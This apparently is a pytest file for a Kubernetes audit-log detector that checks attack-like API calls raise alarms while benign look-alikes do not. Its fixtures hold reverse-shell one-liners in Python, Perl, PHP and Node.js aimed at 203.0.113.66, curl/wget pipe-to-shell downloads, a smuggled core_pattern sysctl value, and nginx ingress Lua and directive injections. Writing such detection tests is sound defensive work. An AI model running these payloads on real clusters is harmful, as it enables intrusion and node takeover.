"""Ways into a cluster and further inside it: by a pod, by rights, by names that are believed, by where traffic goes.

Raw audit records through reader and bridge, and the same calls where they open nothing.
"""

import base64
from typing import Any

import pytest

from core.assessment import Verdict
from core.json import JsonObject, JsonValue
from core.trait import Trait
from tests.unit.core.providers.acting import judged, reads, told
from tests.unit.core.providers.kubernetes.given import audit

PERSON = "eve@acme.example"
RBAC = "rbac.authorization.k8s.io"
CSR = "certificatesigningrequests.certificates.k8s.io"
CONTROL_PLANE = {"node-role.kubernetes.io/control-plane": ""}
EVERYWHERE = [{"operator": "Exists"}]
PYTHON = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.66',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
PERL = "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$p);open(STDIN,'>&S');exec('/bin/sh -i');"
PHP = "$s=fsockopen('203.0.113.66',9001);exec('/bin/sh -i <&3 >&3 2>&3');"
SCC = {"apiGroups": ["security.openshift.io"], "resources": ["securitycontextconstraints"], "verbs": ["use"]}
NGINX = "nginx.ingress.kubernetes.io/"


def by_person(verb: str, resource: str, **given: Any) -> JsonObject:
    return audit(verb, resource, user=PERSON, **given)


def pod(
    command: list[str] | None = None, /, *, name: str = "p", namespace: str = "shop", image: str = "alpine:3", **spec: Any
) -> JsonObject:
    containers = [{"name": "c", "image": image, **({"command": command} if command else {}), **spec.pop("container", {})}]
    body = {"kind": "Pod", "metadata": {"name": name}, "spec": {"containers": containers, **spec}}
    return by_person("create", "pods", namespace=namespace, name=name, body=body)


def secured(**context: Any) -> JsonObject:
    return pod(container={"securityContext": context})


def tuned(name: str, value: str = "1") -> JsonObject:
    return pod(securityContext={"sysctls": [{"name": name, "value": value}]})


def role(*rules: JsonObject) -> JsonObject:
    return by_person("create", f"clusterroles.{RBAC}", namespace="", body={"kind": "ClusterRole", "rules": list(rules)})


def rule(resource: str, *verbs: str) -> JsonObject:
    return {"apiGroups": [""], "resources": [resource], "verbs": list(verbs)}


def certificate(signer: str, asked: bytes = b"", **given: Any) -> JsonObject:
    lines = b"-----BEGIN CERTIFICATE REQUEST-----\n" + base64.b64encode(asked) + b"\n-----END CERTIFICATE REQUEST-----\n"
    spec = {"signerName": signer, "request": base64.b64encode(lines).decode()}
    body = {"kind": "CertificateSigningRequest", "spec": spec}
    return audit("create", CSR, namespace="", name="c", body=body, **{"user": PERSON, **given})


def annotated(verb: str, key: str, value: JsonValue) -> JsonObject:
    body = {"kind": "Ingress", "metadata": {"name": "web", "annotations": {f"{NGINX}{key}": value}}}
    return by_person(verb, "ingresses.networking.k8s.io", body=body)


def authorizes(*rules: JsonObject) -> JsonObject:
    body = {"kind": "AuthorizationPolicy", "spec": {"action": "ALLOW", "rules": list(rules)}}
    return by_person("create", "authorizationpolicies.security.istio.io", body=body)


def posing(name: str) -> JsonObject:
    return by_person("delete", "deployments.apps", impersonatedUser={"username": name, "groups": ["system:authenticated"]})


def project(**spec: Any) -> JsonObject:
    return by_person("patch", "appprojects.argoproj.io", namespace="argocd", body={"spec": spec})


def settings(verb: str, name: str, namespace: str) -> JsonObject:
    body = {"kind": "ConfigMap", "metadata": {"name": name}, "data": {"x": "y"}}
    return by_person(verb, "configmaps", namespace=namespace, name=name, body=body)


def ranchers(role: str) -> JsonObject:
    return by_person("create", "globalrolebindings.management.cattle.io", body={"globalRoleName": role, "userName": "u-eve"})


ALARMS = {
    "/proc unmasked": (secured(procMount="Unmasked"), Trait.WEAKENS_PROTECTION),
    "no SELinux": (secured(seLinuxOptions={"type": "spc_t"}), Trait.WEAKENS_PROTECTION),
    "the node's kernel": (tuned("kernel.core_pattern", "|/bin/x"), Trait.WEAKENS_PROTECTION),
    "the node's kernel by another's value": (tuned("kernel.shm_rmid_forced", "1+kernel.core_pattern=|/bin/x"), Trait.WEAKENS_PROTECTION),
    "drawn to the control plane past every taint": (pod(nodeSelector=CONTROL_PLANE, tolerations=EVERYWHERE), Trait.WEAKENS_PROTECTION),
    "put on a node by hand": (
        by_person("create", "pods/binding", body={"kind": "Binding", "target": {"kind": "Node", "name": "m-1"}}),
        Trait.WEAKENS_PROTECTION,
    ),
    "a shell by Python": (pod(["python3", "-c", PYTHON]), Trait.USES_ATTACK_TOOL),
    "a shell by Perl": (pod(["perl", "-e", PERL]), Trait.USES_ATTACK_TOOL),
    "a shell by PHP": (pod(["php", "-r", PHP]), Trait.USES_ATTACK_TOOL),
    "a shell by Node.js": (
        pod(["node", "-e", "require('net').connect(9001,'203.0.113.66',function(){this.pipe(spawn('/bin/sh').stdin)})"]),
        Trait.USES_ATTACK_TOOL,
    ),
    "a script from an address": (pod(["sh", "-c", "wget -qO- https://203.0.113.66/x | /bin/bash"]), Trait.RUNS_FOREIGN_CODE),
    "a script from outside": (pod(["sh", "-c", "curl -fsSL http://203.0.113.66/a.sh | sh"]), Trait.RUNS_FOREIGN_CODE),
    "a tool for breaking in": (pod(image="bustakube/alpine-peirates"), Trait.USES_ATTACK_TOOL),
    "asked by such a tool": (by_person("create", "configmaps", agent="peirates"), Trait.USES_ATTACK_TOOL),
    "asked from a system for attacks": (
        by_person("create", "configmaps", agent="kubectl/v1.20.2 (linux/amd64) kubernetes/kali1"),
        Trait.USES_ATTACK_TOOL,
    ),
    "under the proxy's name": (pod(name="kube-proxy-bv9x2"), Trait.RUNS_FOREIGN_CODE),
    "a tunnel to etcd": (by_person("create", "pods/portforward", namespace="kube-system", name="etcd-m-1"), Trait.OPENS_NETWORK),
    "an account among the cluster's own": (by_person("create", "serviceaccounts", namespace="kube-system"), Trait.WEAKENS_PROTECTION),
    "guards of namespaces": (role(rule("namespaces", "patch")), Trait.GRANTS_ACCESS),
    "signing": (role(rule("signers", "approve")), Trait.GRANTS_ACCESS),
    "any constraints": (role(SCC), Trait.GRANTS_ACCESS),
    "every address": (role({"nonResourceURLs": ["*"], "verbs": ["*"]}), Trait.GRANTS_ACCESS),
    "a certificate to be a node with": (certificate("kubernetes.io/kube-apiserver-client-kubelet"), Trait.CREATES_IDENTITY),
    "a certificate for all rights": (certificate("acme.example/any", b"\x0c\x0esystem:masters"), Trait.CREATES_IDENTITY),
    "certificates that are believed": (by_person("create", "clustertrustbundles.certificates.k8s.io"), Trait.CHANGES_TRUST),
    "as the controllers": (posing("system:kube-controller-manager"), Trait.GRANTS_ACCESS),
    "as a node": (posing("system:node:n1"), Trait.GRANTS_ACCESS),
    "Rancher's administrator": (ranchers("admin"), Trait.GRANTS_ADMIN),
    "a project for everything": (project(sourceRepos=["*"]), Trait.GRANTS_ACCESS),
    "every request let in": (authorizes({}), Trait.OPENS_NETWORK),
    "traffic sent elsewhere": (
        by_person("patch", "endpoints", body={"subsets": [{"addresses": [{"ip": "203.0.113.66"}]}]}),
        Trait.OPENS_NETWORK,
    ),
    "traffic taken": (
        by_person("patch", "services/status", body={"status": {"loadBalancer": {"ingress": [{"ip": "10.1.2.3"}]}}}),
        Trait.OPENS_NETWORK,
    ),
    "a node that answers elsewhere": (
        by_person("patch", "nodes/status", body={"status": {"addresses": [{"type": "InternalIP", "address": "203.0.113.66"}]}}),
        Trait.CHANGES_TRUST,
    ),
    "code for the ingress controller": (
        annotated("create", "configuration-snippet", "content_by_lua_block { os.execute('id') }"),
        Trait.RUNS_FOREIGN_CODE,
    ),
    "a directive in an address": (annotated("create", "auth-url", "http://x/#;}}}\nssl_engine /proc/1/fd/9;"), Trait.RUNS_FOREIGN_CODE),
    "everybody let in": (annotated("patch", "whitelist-source-range", "0.0.0.0/0"), Trait.OPENS_NETWORK),
    "a list taken away": (annotated("patch", "allowlist-source-range", None), Trait.OPENS_NETWORK),
    "the cluster's names beside": (settings("create", "coredns-custom", "kube-system"), Trait.WEAKENS_PROTECTION),
    "what nodes that join believe": (settings("update", "cluster-info", "kube-public"), Trait.CHANGES_TRUST),
}


@pytest.mark.parametrize(("record", "trait"), ALARMS.values(), ids=ALARMS)
def test_a_way_in_that_a_hand_opens_unexplained_alarms(record: JsonObject, trait: Trait) -> None:
    verdict, traits = told("k8s-audit", record)
    assert trait in traits
    assert verdict is Verdict.UNPLANNED


DAILY = {
    "the usual /proc": secured(procMount="Default"),
    "a usual type of SELinux": secured(seLinuxOptions={"type": "container_t"}),
    "a pod's own kernel settings": tuned("net.core.somaxconn"),
    "what tolerates every taint": pod(tolerations=EVERYWHERE),
    "a client's socket": pod(["python3", "-c", "import socket;socket.create_connection(('db',5432));print('system up')"]),
    "a socket that is a file": pod(["sh", "-c", "rm -f /run/app.socket && exec sh /start.sh"]),
    "a download that is not run": pod(["sh", "-c", "curl -fsSL http://203.0.113.66/a.json | jq ."]),
    "a script by a proven name": pod(["sh", "-c", "curl -fsSL https://get.helm.sh/install | bash"]),
    "a script from inside": pod(["sh", "-c", "curl -s http://setup.ci.svc.cluster.local/a.sh | sh && curl -s http://10.0.0.7/b.sh | sh"]),
    "a program named like a system": by_person("create", "configmaps", agent="parrot/v1.0 (linux/amd64) kubernetes/abc"),
    "another's proxy": pod(name="proxy-bv9x2"),
    "a tunnel to the names' pod": by_person("create", "pods/portforward", namespace="kube-system", name="hubble-ui-x"),
    "an account of one's own": by_person("create", "serviceaccounts", namespace="shop"),
    "namespaces made": role(rule("namespaces", "get", "create")),
    "the usual constraints": role({**SCC, "resourceNames": ["restricted-v2"]}),
    "some addresses": role({"nonResourceURLs": ["/metrics"], "verbs": ["get"]}),
    "a server's certificate": certificate("kubernetes.io/kubelet-serving"),
    "as a colleague": posing("ana@acme.example"),
    "as an account of one's own": posing("system:serviceaccount:shop:web"),
    "Rancher's plain user": ranchers("user"),
    "a project for one place": project(sourceRepos=["https://git.acme.example/shop"], destinations=[{"namespace": "shop", "server": "*"}]),
    "some requests let in": authorizes({"from": [{"source": {"namespaces": ["shop"]}}]}),
    "a node's spare parts": by_person("patch", "nodes/status", body={"status": {"capacity": {"acme.example/dongle": "4"}}}),
    "headers": annotated("create", "configuration-snippet", 'if ($x) { more_set_headers "X-Frame-Options: DENY"; }'),
    "where to log in": annotated("create", "auth-url", "https://sso.acme.example/auth?rd=$escaped_request_uri"),
    "an office let in": annotated("patch", "whitelist-source-range", "203.0.113.0/24"),
    "a new address for everybody": annotated("create", "whitelist-source-range", "0.0.0.0/0"),
    "another's settings": settings("update", "cluster-info", "shop"),
}


@pytest.mark.parametrize("record", DAILY.values(), ids=DAILY)
def test_the_same_call_that_opens_nothing_does_not_alarm(record: JsonObject) -> None:
    verdict, _ = told("k8s-audit", record)
    assert verdict is Verdict.UNKNOWN


def test_a_policy_that_lets_everyone_in_is_not_said_to_close_anything() -> None:
    assert Trait.CLOSES_NETWORK not in told("k8s-audit", authorizes({}))[1]
    assert Trait.CLOSES_NETWORK in told("k8s-audit", authorizes({"from": [{"source": {"namespaces": ["shop"]}}]}))[1]


def test_a_node_that_joins_asks_for_its_certificate_unremarked() -> None:
    joining = certificate("kubernetes.io/kube-apiserver-client-kubelet", user="system:bootstrap:abcdef", agent="kubelet/v1.31.2")
    (one,) = judged("k8s-audit", joining)
    assert Trait.CREATES_IDENTITY not in one.event.traits
    assert one.verdict is not Verdict.UNPLANNED


@pytest.mark.parametrize(
    ("user", "agent"),
    [
        ("system:node:n1", "kubelet/v1.31.2"),
        ("system:kube-scheduler", "kube-scheduler/v1.31.2"),
        ("system:serviceaccount:metallb-system:controller", "controller/v0.14"),
        ("kube-node", "kubelet/v1.31.2"),
    ],
)
@pytest.mark.parametrize("action", ["patch nodes/status", "patch services/status", "create pods/binding"])
def test_what_the_clusters_parts_report_is_no_change(action: str, user: str, agent: str) -> None:
    verb, resource = action.split()
    assert not reads("k8s-audit", audit(verb, resource, user=user, agent=agent))
